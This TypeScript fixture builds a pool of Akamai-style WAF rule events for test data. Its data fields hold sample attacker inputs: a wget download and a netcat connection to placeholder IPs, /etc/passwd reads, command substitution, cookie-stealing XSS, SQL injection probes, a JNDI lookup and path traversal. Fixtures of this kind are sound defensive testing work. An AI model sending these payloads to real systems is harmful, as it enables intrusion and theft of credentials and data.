/** A pool of rules as Akamai's products report them, with values that attackers sent. */

export interface RuleKind {
  rule: string;
  version: string;
  message: string;
  tag: string;
  data: readonly (string | Buffer)[];
  selectors: readonly (string | Buffer)[];
  actions: readonly string[];
}

const ARGUMENTS = ["ARGS:option", "ARGS:q", "ARGS:id", "ARGS:file[]", "ARGS:comment", "REQUEST_BODY"];
const ACTIONS = ["alert", "deny", "monitor", "deny_custom_622918", "tarpit", "none"];

/** First bytes of a gzip member, as found in a selector of a real event. */
const GZIP_MAGIC = Buffer.from([0x1f, 0x8b, 0x08, 0x00, 0xff]);

export const RULES: readonly RuleKind[] = [
  {
    rule: "950002",
    version: "4",
    message: "System Command Access",
    tag: "OWASP_CRS/WEB_ATTACK/FILE_INJECTION",
    data: ["telnet.exe", "cmd.exe", "/bin/sh -c id", "wget http://203.0.113.9/x.sh"],
    selectors: ARGUMENTS,
    actions: ACTIONS,
  },
  {
    rule: "950006",
    version: "4",
    message: "System Command Injection",
    tag: "OWASP_CRS/WEB_ATTACK/COMMAND_INJECTION",
    data: ["; cat /etc/passwd", "| nc 198.51.100.4 4444", "`id`", "$(reboot)"],
    selectors: ARGUMENTS,
    actions: ACTIONS,
  },
  {
    rule: "CMD-INJECTION-ANOMALY",
    version: "1",
    message: "Anomaly Score Exceeded for Command Injection",
    tag: "AKAMAI/POLICY/CMD_INJECTION_ANOMALY",
    data: [
      "Vector Score: 10, DENY threshold: 9, Alert Rules: 950002:950006, Deny Rule: , Last Matched Message: System Command Injection",
    ],
    selectors: [""],
    actions: ["deny", "alert"],
  },
  {
    rule: "SQL-INJECTION-ANOMALY",
    version: "1",
    message: "Anomaly Score Exceeded for SQL Injection",
    tag: "AKAMAI/POLICY/SQL_INJECTION_ANOMALY",
    data: [
      "Vector Score: 26, DENY threshold: 9, Alert Rules: 950901:981242:981257, Deny Rule: , Last Matched Message: Detects MySQL comment-/space-obfuscated injections",
    ],
    selectors: [""],
    actions: ["deny", "alert"],
  },
  {
    rule: "XSS-ANOMALY",
    version: "1",
    message: "Anomaly Score Exceeded for Cross-Site Scripting",
    tag: "AKAMAI/POLICY/XSS_ANOMALY",
    data: [
      "Vector Score: 11, DENY threshold: 9, Alert Rules: 958051:973305, Deny Rule: , Last Matched Message: Cross-site Scripting (XSS) Attack",
    ],
    selectors: [""],
    actions: ["deny", "alert"],
  },
  {
    rule: "958051",
    version: "3",
    message: "Cross-site Scripting (XSS) Attack",
    tag: "OWASP_CRS/WEB_ATTACK/XSS",
    data: ["</script><script>alert(document.cookie)</script>", "<a ", "javascript:alert(1)", "<svg/onload=alert`1`>"],
    selectors: [...ARGUMENTS, "REQUEST_HEADERS:Referer", "REQUEST_HEADERS:User-Agent"],
    actions: ACTIONS,
  },
  {
    rule: "981242",
    version: "2",
    message: "Detects classic SQL injection probings",
    tag: "OWASP_CRS/WEB_ATTACK/SQL_INJECTION",
    data: ["' or 1=1--", "1' AND '1'='1", "x' UNION SELECT NULL,NULL,@@version-- -", "admin'/**/--"],
    selectors: ARGUMENTS,
    actions: ACTIONS,
  },
  {
    rule: "950901",
    version: "2",
    message: "SQL Injection Attack: SQL Tautology Detected",
    tag: "OWASP_CRS/WEB_ATTACK/SQL_INJECTION",
    data: ["1>0>>>", "a?>b?>c~~", "or 2>1 ~>?"],
    selectors: ARGUMENTS,
    actions: ACTIONS,
  },
  {
    rule: "3000065",
    version: "1",
    message: "SQL Injection Attack (SmartDetect)",
    tag: "ASE/WEB_ATTACK/SQLI",
    data: ["sleep(5)#", "benchmark(10000000,MD5(1))", "\u0000' or ''='"],
    selectors: ["ARGS:id", "ARGS_NAMES:id]["],
    actions: ACTIONS,
  },
  {
    rule: "3904006",
    version: "1",
    message: "Request Missing a Cookie Header (Client Profile)",
    tag: "AKAMAI/BOT/REQUEST_ANOMALY",
    data: [""],
    selectors: [""],
    actions: ["monitor", "alert"],
  },
  {
    rule: "960015",
    version: "1",
    message: "Request Missing an Accept Header",
    tag: "OWASP_CRS/PROTOCOL_VIOLATION/MISSING_HEADER",
    data: ["0", ""],
    selectors: ["&REQUEST_HEADERS:Accept", ""],
    actions: ["alert"],
  },
  {
    rule: "REP_18961",
    version: "",
    message: "Web Attackers (High Threat) at or above score 7",
    tag: "REPUTATION",
    data: ["WEBATCK=9", "ID=198.51.100.77;WEBATCK=9;DOSATCK=7"],
    selectors: ["", "RATE"],
    actions: ["alert", "deny"],
  },
  {
    rule: "IPBLOCK-BURST4-54013",
    version: "",
    message: "Burst Request Rate Exceeded",
    tag: "IPBLOCK/BURST",
    data: ["83", "417"],
    selectors: ["RATE"],
    actions: ["deny"],
  },
  {
    rule: "BOT-6EED1A47-8BBF-4C82-ABC2-F7A9F0AB34F3",
    version: "1",
    message: "Session Validation (Cookie Integrity Failed)",
    tag: "AKAMAI/BOT/UNKNOWN_BOT",
    data: ["", "telltale=3f>>~"],
    selectors: [""],
    actions: ["monitor", "tarpit"],
  },
  {
    rule: "950107",
    version: "2",
    message: "URL Encoding Abuse Attack Attempt",
    tag: "OWASP_CRS/PROTOCOL_VIOLATION/EVASION",
    data: ["%zz%", "%u0027%", "\u001b[2J\u001b[1;31mowned\u001b[0m", "a\r\nSet-Cookie: admin=1"],
    selectors: ["REQUEST_URI", "REQUEST_HEADERS:X-Forwarded-For"],
    actions: ACTIONS,
  },
  {
    rule: "950103",
    version: "1",
    message: "Path Traversal Attack (/../)",
    tag: "OWASP_CRS/WEB_ATTACK/DIR_TRAVERSAL",
    data: ["../../../../etc/passwd", "..%252f..%252f", "\\..\\..\\windows\\win.ini"],
    selectors: ["REQUEST_URI", "ARGS:file[]"],
    actions: ACTIONS,
  },
  {
    rule: "3000041",
    version: "1",
    message: "Server Side Template Injection, \u00e9dition \u65e5\u672c\u8a9e",
    tag: "ASE/WEB_ATTACK/SSTI",
    data: ["{{7*7}}", "${jndi:ldap://198.51.100.9:1389/a}", "\u00fc\u00f1\u00ee\u00e7\u00f8d\u00e9 \u{1f525}"],
    selectors: ["ARGS:name", "REQUEST_HEADERS:User-Agent"],
    actions: ACTIONS,
  },
  {
    rule: "960902",
    version: "1",
    message: "Invalid Use of Identity Encoding",
    tag: "OWASP_CRS/PROTOCOL_VIOLATION/INVALID_HREQ",
    data: [Buffer.from([0xb4]), Buffer.from([0xff, 0xfe, 0x00, 0x41]), Buffer.from([0x61, 0xe2, 0x82, 0x28])],
    selectors: [Buffer.concat([Buffer.from("ARGS_NAMES:"), GZIP_MAGIC]), "REQUEST_BODY"],
    actions: ACTIONS,
  },
];
